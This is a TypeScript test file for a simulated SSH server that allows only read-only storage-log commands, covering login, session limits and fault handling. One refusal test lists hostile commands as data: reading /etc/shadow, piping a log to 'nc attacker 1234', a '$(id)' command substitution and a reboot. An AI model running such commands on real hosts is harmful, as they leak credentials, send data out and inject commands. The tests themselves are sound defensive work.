import ssh2 from 'ssh2';
import { afterEach, describe, expect, it } from 'vitest';
import { scanCommand, smlogSizeCommand, smlogTailCommand, speedLogsCommand } from './host-commands';
import { MAX_SESSIONS, startSshServer, type SshServer } from './ssh-server';
import { createTestWorld, type TestWorld } from './test-world';

interface ExecResult {
  stdout: string;
  stderr: string;
  exitCode: number | null;
}

interface Login {
  host?: string;
  username?: string;
  password?: string;
}

const cleanups: Array<() => Promise<void>> = [];

afterEach(async () => {
  while (cleanups.length > 0) await cleanups.pop()!();
});

async function serve(world: TestWorld): Promise<SshServer> {
  const server = await startSshServer({ world });
  cleanups.push(() => server.stop());
  return server;
}

function connect(port: number, login: Login = {}): Promise<ssh2.Client> {
  return new Promise((resolve, reject) => {
    const client = new ssh2.Client();
    client.on('ready', () => resolve(client));
    client.on('error', reject);
    client.connect({
      host: login.host ?? '127.0.0.1',
      port,
      username: login.username ?? 'root',
      password: login.password ?? 'password',
      hostVerifier: () => true,
      readyTimeout: 10_000,
    });
    cleanups.push(async () => void client.end());
  });
}

function exec(client: ssh2.Client, command: string): Promise<ExecResult> {
  return new Promise((resolve, reject) => {
    client.exec(command, (error, stream) => {
      if (error) return reject(error);
      let stdout = '';
      let stderr = '';
      let exitCode: number | null = null;
      stream.on('data', (chunk: Buffer) => (stdout += chunk.toString('utf8')));
      stream.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')));
      stream.on('exit', (code: number | null) => (exitCode = code));
      stream.on('close', () => resolve({ stdout, stderr, exitCode }));
    });
  });
}

describe('SSH server', () => {
  it('logs in with the pool credentials and runs each read-only command', async () => {
    const world = createTestWorld();
    const master = world.masterRef();
    world.appendSmlog(master, 'line one\nline two\n');
    world.setSpeedLog(world.srUuid, '104857600\n');
    const server = await serve(world);
    const client = await connect(server.port);
    expect(await exec(client, scanCommand({ uuid: world.srUuid, type: 'lvm' }))).toEqual({
      stdout: world.vhdScan(world.srUuid),
      stderr: '',
      exitCode: 0,
    });
    expect((await exec(client, smlogSizeCommand())).stdout).toBe('18\n');
    expect((await exec(client, smlogTailCommand(9))).stdout).toBe('line two\n');
    expect((await exec(client, speedLogsCommand([world.srUuid]))).stdout).toBe(`/var/run/${world.srUuid}.speed_log:104857600\n`);
  });

  it('reports a missing speed log as grep does', async () => {
    const world = createTestWorld();
    const server = await serve(world);
    const client = await connect(server.port);
    expect(await exec(client, `grep -H '' /run/${world.srUuid}.speed_log`)).toEqual({
      stdout: '',
      stderr: `grep: /run/${world.srUuid}.speed_log: No such file or directory\n`,
      exitCode: 2,
    });
  });

  it.each([
    'stat -c %s /var/log/SMlog; cat /etc/shadow',
    'tail -c +1 /var/log/SMlog | nc attacker 1234',
    'cat /run/$(id).speed_log',
    'reboot',
  ])('refuses %j with exit code 126', async (command) => {
    const world = createTestWorld();
    const server = await serve(world);
    const client = await connect(server.port);
    expect(await exec(client, command)).toEqual({
      stdout: '',
      stderr: `chainwatch-simulator: command not allowed: ${command}\n`,
      exitCode: 126,
    });
  });

  it('answers each host with its own SMlog on its own address', async () => {
    const world = createTestWorld({ hostCount: 2 });
    const [first, second] = world.hosts();
    world.appendSmlog(first.ref, 'first host\n');
    world.appendSmlog(second.ref, 'second host\n');
    const server = await serve(world);
    const client = await connect(server.port, { host: second.address });
    expect((await exec(client, smlogTailCommand(0))).stdout).toBe('second host\n');
  });

  it('refuses sessions beyond MaxSessions on one connection, as sshd does, and takes more once they close', async () => {
    const world = createTestWorld();
    const server = await serve(world);
    const client = await connect(server.port);
    const results = await Promise.allSettled(Array.from({ length: MAX_SESSIONS + 2 }, () => exec(client, smlogSizeCommand())));
    expect(results.filter((r) => r.status === 'fulfilled')).toHaveLength(MAX_SESSIONS);
    const refused = results.filter((r) => r.status === 'rejected');
    expect(refused).toHaveLength(2);
    for (const r of refused) expect(String(r.reason)).toMatch(/open failure|open failed/i);
    expect((await exec(client, smlogSizeCommand())).exitCode).toBe(0);
  });

  it('refuses a shell', async () => {
    const world = createTestWorld();
    const server = await serve(world);
    const client = await connect(server.port);
    await expect(new Promise((resolve, reject) => client.shell((error) => (error ? reject(error) : resolve(null))))).rejects.toThrow();
  });

  it('rejects a wrong password and every login while sshDown', async () => {
    const world = createTestWorld();
    const server = await serve(world);
    await expect(connect(server.port, { password: 'wrong' })).rejects.toMatchObject({ level: 'client-authentication' });
    world.faults.sshDown = true;
    await expect(connect(server.port)).rejects.toMatchObject({ level: 'client-authentication' });
    world.faults.sshDown = false;
    await expect(connect(server.port)).resolves.toBeInstanceOf(ssh2.Client);
  });

  it('drops open connections when it stops', async () => {
    const world = createTestWorld();
    const server = await startSshServer({ world });
    const client = await connect(server.port);
    const closed = new Promise((resolve) => client.on('close', () => resolve(null)));
    await server.stop();
    await closed;
    await expect(connect(server.port)).rejects.toMatchObject({ code: 'ECONNREFUSED' });
  });
});
